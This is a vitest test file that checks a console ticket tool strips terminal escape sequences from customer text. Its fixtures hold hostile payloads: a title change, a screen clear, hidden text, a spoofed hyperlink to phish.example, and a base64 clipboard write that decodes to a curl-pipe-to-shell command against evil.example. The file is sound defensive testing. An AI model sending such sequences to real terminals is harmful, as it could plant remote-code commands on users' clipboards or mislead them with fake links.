import { describe, expect, it } from 'vitest';
import { ConsoleNotifier } from '../../adapters/console/console-notifier.ts';
import { renderReply } from '../../adapters/console/console-repl.ts';
import { createLogger } from '../../adapters/logging/pino-logger.ts';

/** The review's subject and body (finding 13): a window title, a clipboard write, a screen clear, hidden text, a fake OSC 8 link. */
const SUBJECT =
  'Order late\u001b]0;PWNED-title\u0007\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==\u0007\u001b[2J\u001b[1;1HAll good';
const BODY =
  '\u001b[8mhidden text\u001b[0m\n\u001b]8;;https://phish.example\u001b\\https://shop.example\u001b]8;;\u001b\\';
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe("customers' text on a terminal", () => {
  it('command and console print no escape sequence from it, keep its lines, and colour only with our own codes', () => {
    const reply = { ok: true, ephemeral: false, text: `#470 ${SUBJECT}\n— customer: ${BODY}\npriority urgent` };
    const plain = renderReply(reply, false);
    expect(plain).not.toMatch(CONTROLS);
    expect(plain).toBe('#470 Order lateAll good\n— customer: hidden text\nhttps://shop.example\npriority urgent');
    const coloured = renderReply(reply, true);
    // Only our colours: red bold for the urgent line, dim for a thread line, each reset.
    expect(coloured.replace(/\u001b\[(?:31|33|34|2|1|0)m/g, '')).toBe(plain);
  });

  it('the console notifier writes one clean line per notice', async () => {
    const lines: string[] = [];
    const notifier = new ConsoleNotifier({ logger: createLogger({ level: 'silent' }), write: (l) => lines.push(l) });
    await notifier.notify({
      kind: 'escalation',
      ticketId: 470,
      subject: SUBJECT,
      customer: 'x\u001b[2J@evil.example',
      priority: 'urgent',
      category: 'complaint',
      lines: [BODY],
    });
    expect(lines.join('\n')).not.toMatch(CONTROLS);
    expect(lines[0]).toContain('"Order lateAll good" from x@evil.example');
  });
});
